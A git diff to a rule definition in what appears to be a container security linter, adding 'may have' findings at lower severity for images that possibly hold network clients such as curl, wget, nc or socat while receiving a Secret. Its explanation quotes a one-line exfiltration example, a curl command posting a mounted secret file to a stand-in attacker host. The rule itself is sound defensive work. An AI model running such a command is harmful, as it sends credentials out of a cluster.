@@ -17,7 +17,10 @@ export const secretInNetworkClientImage: RuleDef = {
     what:
       'Reports every container that receives a Secret while its image holds a network client: curl, wget, nc, ' +
       'openssl, ssh/scp, socat, database clients (psql, mysql, redis-cli, mongosh), cloud CLIs, or the busybox ' +
-      'applets that play those parts. The Dockerfile line that installed the client gets a matching finding.',
+      'applets that play those parts. The Dockerfile line that installed the client gets a matching finding. ' +
+      'A tool the catalog only *may* hold (its sources do not confirm it, or a digest without a tag may name a variant ' +
+      'without it) is reported as "may have", one severity below the rule\'s (error → warning); in JSON and SARIF the ' +
+      'finding carries `certainty: unverified`.',
     why:
       'Reading a Secret is half of a leak; carrying it out is the other half. `curl -d @/var/run/secrets/... ' +
       'https://attacker` is one line. Without a network client the attacker has to write one in whatever the image ' +
